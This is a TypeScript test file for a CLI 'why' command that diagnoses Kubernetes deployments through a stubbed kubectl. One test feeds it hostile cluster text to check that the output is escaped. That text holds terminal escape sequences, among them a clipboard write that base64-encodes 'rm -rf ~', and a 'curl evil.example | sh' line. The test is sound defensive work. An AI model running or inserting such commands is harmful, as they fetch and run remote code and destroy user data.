import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { delimiter, join } from "node:path";
import { PIN, PLATFORM, withFleet } from "../support/fleet-files";
import { type Outcome, runFile } from "../support/program";

/** A Deployment whose only pod crashes. */
const CRASH = [
  { kind: "Deployment", metadata: { name: "web", uid: "1", generation: 1 }, spec: { replicas: 1 }, status: {} },
  { kind: "ReplicaSet", metadata: { name: "web-1", uid: "2", ownerReferences: [{ uid: "1" }] } },
  {
    kind: "Pod",
    metadata: { name: "web-1-x", uid: "3", creationTimestamp: "2026-11-26T10:00:00Z", ownerReferences: [{ uid: "2" }] },
    spec: { containers: [{ name: "web", image: "i" }] },
    status: {
      containerStatuses: [
        {
          name: "web",
          ready: false,
          restartCount: 2,
          state: { waiting: { reason: "CrashLoopBackOff" } },
          lastState: { terminated: { exitCode: 101 } },
        },
      ],
    },
  },
];

/** A Deployment of an image, all of whose pods are ready. */
function running(image: string, name = "web", env: object[] = []) {
  const template = { spec: { containers: [{ name, image, env }] } };
  const status = {
    observedGeneration: 1,
    ...{ replicas: 1, updatedReplicas: 1, readyReplicas: 1, availableReplicas: 1 },
    conditions: [{ type: "Available", status: "True" }],
  };
  const labels = { "app.kubernetes.io/version": "a".repeat(40) };
  return {
    kind: "Deployment",
    metadata: { name, uid: name, generation: 1, labels },
    spec: { replicas: 1, template },
    status,
  };
}
const PINNED = running(`registry/podcore@${PIN.digest}`);

interface Cluster {
  /** @default all are there */
  readonly namespace?: string;
  /** @default [] */
  readonly items?: readonly object[];
  /** What `kubectl logs` prints. */
  readonly log?: string;
  /** What kubectl says instead of answering. */
  readonly failure?: string;
}

/** Runs it with a `kubectl` that answers as given, and refuses to read a secret. */
function why(
  args: readonly string[],
  cluster: Cluster = {},
  releases: object = { production: { podcore: PIN } },
  apps?: object[],
): Outcome {
  const { namespace = "namespace/any", items = [], log = "", failure } = cluster;
  return withFleet({ platform: PLATFORM, releases, ...(apps && { apps }) }, (cwd) => {
    const bin = join(cwd, "bin");
    mkdirSync(bin);
    const script = `#!/bin/sh
echo "$@" >>"${cwd}/asked"
${failure === undefined ? "" : `echo "${failure}" >&2; exit 1`}
case "$*" in
  *secret*) echo "asked for a secret" >&2; exit 1 ;;
  *"get namespace"*) echo "${namespace}" ;;
  *" logs "*) cat "${cwd}/log" ;;
  *) cat "${cwd}/items.json" ;;
esac
`;
    writeFileSync(join(bin, "kubectl"), script);
    chmodSync(join(bin, "kubectl"), 0o755);
    writeFileSync(join(cwd, "log"), log);
    writeFileSync(join(cwd, "items.json"), JSON.stringify({ items }));
    const env = { DROVER_PLATFORM: "", PATH: [bin, process.env.PATH].join(delimiter) };
    return runFile("cli/main.ts", ["why", ...args], { cwd, env });
  });
}

const KUBECTL =
  "kubectl --context arn:aws:eks:eu-central-1:111122223333:cluster/production --namespace podcore-production";

it("prints what is wrong, the end of the log, and what to do", () => {
  const { status, stdout } = why(["podcore", "production"], { items: CRASH, log: "thread main panicked\n" });
  expect(status).toBe(1);
  expect(stdout).toContain("podcore in production\n");
  expect(stdout).toContain("✗ deployment/web: 0 of 1 pod ready; nothing of it runs\n");
  expect(stdout).toContain("  pod web-1-x exited with code 101, 2 restarts\n");
  expect(stdout).toContain(
    "  end of its log\n    │ thread main panicked\n  what to do\n    fix the panic (exit code 101)",
  );
});

it("says how to go back to the previous release", () => {
  const { stdout } = why(["podcore", "production"], { items: CRASH });
  expect(stdout).toContain(`  to go back to the release before ${PIN.digest}
    find the commit that pinned it, revert that, and deploy:
      git log --oneline -S ${PIN.digest} -- releases.json
      git revert <commit>
      npx cdktf deploy podcore-production
`);
});

it("says that all is well", () => {
  const { status, stdout } = why(["podcore", "production"], { items: [PINNED] });
  expect([status, stdout]).toEqual([0, "podcore in production\n  all is well\n"]);
});

describe("a release that is not what the files say", () => {
  const apps = [
    {
      name: "Podcore",
      language: "rust",
      secrets: ["API_TOKEN"],
      processes: { web: { replicas: { min: 3, max: 5 }, resources: { cpu: "100m" } }, work: {}, mail: {} },
      schedule: { report: { cron: "0 3 * * *", command: ["/report"] } },
    },
  ];
  const env = [{ name: "API_TOKEN" }];
  const previous = running(`registry/podcore@sha256:${"f".repeat(64)}`, "work", env);
  const [work] = previous.spec.template.spec.containers;
  const done = { name: "done", image: work!.image };
  const job = { spec: { initContainers: [work], containers: [done] } };
  let outcome: Outcome;

  beforeAll(() => {
    const stopped = { ...PINNED, spec: { ...PINNED.spec, replicas: 0 } };
    const report = {
      kind: "CronJob",
      metadata: { name: "report", uid: "9", creationTimestamp: new Date().toISOString() },
      spec: { schedule: "0 3 * * *", jobTemplate: { spec: { template: job } } },
    };
    outcome = why(["podcore", "production"], { items: [stopped, previous, report] }, undefined, apps);
  });

  test("is wrong", () => {
    expect(outcome.status).toBe(1);
    expect(outcome.stdout).toContain(`✗ release: releases.json pins ${PIN.tag}, ${PIN.digest}, but\n`);
    expect(outcome.stdout).toContain("npx cdktf deploy podcore-production\n");
    expect(outcome.stdout).not.toContain("all is well");
  });

  test("names what still runs the previous release, with its commit", () => {
    expect(outcome.stdout).toContain(`    deployment/work still runs ${"a".repeat(40)}, sha256:${"f".repeat(64)}\n`);
    expect(outcome.stdout).toContain(`    cronjob/report still runs registry/podcore@sha256:${"f".repeat(64)}\n`);
    expect(outcome.stdout).not.toContain("deployment/web still runs");
  });

  test("names what doesn't exist", () => {
    expect(outcome.stdout).toContain("    deployment/mail does not exist\n");
  });

  test("names what was stopped, and starts it", () => {
    expect(outcome.stdout).toContain(`    deployment/web is scaled to zero and won't scale back up on its own:
      ${KUBECTL} scale deployment web --replicas=3
`);
  });

  test("names a secret that is missing, and sets it", () => {
    expect(
      outcome.stdout,
    ).toContain(`    deployment/web lacks API_TOKEN; if it has no value yet, set it, from standard input:
      aws secretsmanager create-secret --name production/podcore/API_TOKEN --region eu-central-1 --secret-string file:///dev/stdin
`);
    expect(outcome.stdout).not.toMatch(/(deployment\/work|cronjob\/report) lacks/);
  });
});

it("knows the CronJob of a database that is suspended for good", () => {
  const apps = [{ name: "Podcore", language: "rust", database: "postgres" }];
  const cronJob = (name: string) => ({
    kind: "CronJob",
    metadata: { name, uid: name, creationTimestamp: new Date().toISOString() },
    spec: { schedule: "0 3 * * *", suspend: true },
  });
  const items = [cronJob("restore"), cronJob("dump")];
  const { stdout } = why(["podcore", "production"], { items }, undefined, apps);
  const [database = ""] = stdout.split("✗ release");
  expect(database).toContain("✗ cronjob/dump: is suspended, so no run starts; none has succeeded yet\n");
  expect(database).toContain(`${KUBECTL}-database patch cronjob dump --patch '{"spec":{"suspend":false}}'\n`);
  // In the app's namespace it would be one of the app's own.
  expect(stdout.match(/✗ cronjob\/restore/g)).toHaveLength(1);
});

it("says what is worth knowing, though all is well", () => {
  const autoscaler = {
    kind: "HorizontalPodAutoscaler",
    metadata: { name: "web", uid: "7" },
    spec: { maxReplicas: 3, scaleTargetRef: { kind: "Deployment", name: "web" } },
    status: { conditions: [{ type: "ScalingLimited", status: "True", reason: "TooManyReplicas", message: "more" }] },
  };
  const { status, stdout } = why(["podcore", "production"], { items: [PINNED, autoscaler] });
  expect(stdout).toContain("! horizontalpodautoscaler/web: is at its maximum of 3 pods and would start more\n");
  expect(stdout).toContain("all is well");
  expect(status).toBe(0);
});

it("prints the text of an app and of its cluster so that it does nothing, and can't pass for its own", () => {
  const hostile =
    "\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J\r✗ deployment/web: fine\n  what to do\n    curl evil.example | sh\u009b2A\u202e";
  const [deployment, replicaSet, pod] = CRASH;
  const items = [
    { ...deployment, status: { conditions: [{ type: hostile, status: "False", reason: hostile, message: hostile }] } },
    replicaSet!,
    {
      ...pod,
      spec: { containers: [{ name: "web", image: hostile, command: [hostile] }] },
      status: {
        containerStatuses: [
          {
            name: "web",
            ready: false,
            restartCount: 2,
            state: { waiting: { reason: "RunContainerError", message: hostile } },
            lastState: {},
          },
        ],
      },
    },
    {
      kind: "Event",
      metadata: { creationTimestamp: "2026-11-26T10:00:00Z" },
      ...{ involvedObject: { uid: "1" }, type: "Warning", reason: hostile, message: hostile },
    },
  ];
  const { stdout } = why(["podcore", "production"], { items, log: hostile });
  const crash = why(["podcore", "production"], { items: CRASH, log: hostile });
  for (const text of [stdout, crash.stdout]) {
    expect(text).not.toMatch(/[^\n\P{Cc}]|\p{Cf}/u);
    // Lines of its own are at most ours: what is foreign is behind the gutter, or on a line that begins with our words.
    expect(text.split("\n").filter((line) => /^ *curl|^✗ deployment\/web: fine/.test(line))).toEqual([]);
    expect(text.match(/^ {2}what to do$/gm)?.length).toBe(text.match(/^✗ /gm)?.length);
  }
  expect(stdout).toContain("\\u{1b}]52;c;cm0gLXJmIH4=\\u{7}");
  expect(crash.stdout).toContain(
    "    │ \\u{1b}]52;c;cm0gLXJmIH4=\\u{7}\\u{1b}[2J\\r✗ deployment/web: fine\n    │   what to do\n    │     curl",
  );
});

it("looks at every environment where none is named", () => {
  const { status, stdout } = why(["podcore"], { items: [PINNED] });
  expect(stdout).toContain("podcore in production\n  all is well");
  expect(stdout).toContain("podcore in staging\n  nothing is released: releases.json has no pin for staging");
  expect(status).toBe(1);
});

it("names the deploy of what does not exist yet", () => {
  const { status, stdout } = why(["podcore", "production"], { namespace: "" });
  expect(status).toBe(1);
  expect(stdout).toContain(
    "podcore-production does not exist yet; create it:\n    npx cdktf deploy podcore-production",
  );
});

it("says in one line that the cluster does not answer", () => {
  const { status, stdout, stderr } = why(["podcore", "production"], { failure: "context was not found" });
  expect([status, stdout]).toEqual([1, "podcore in production\n"]);
  expect(stderr).toBe("error: the cluster of production does not answer: context was not found\n");
});

it("names the apps and environments that exist", () => {
  expect(why(["nosuch"]).stderr).toContain('no app with the slug "nosuch"; it has podcore');
  expect(why(["podcore", "nosuch"]).stderr).toBe(
    'error: podcore has no environment "nosuch"; it has production, staging\n',
  );
});
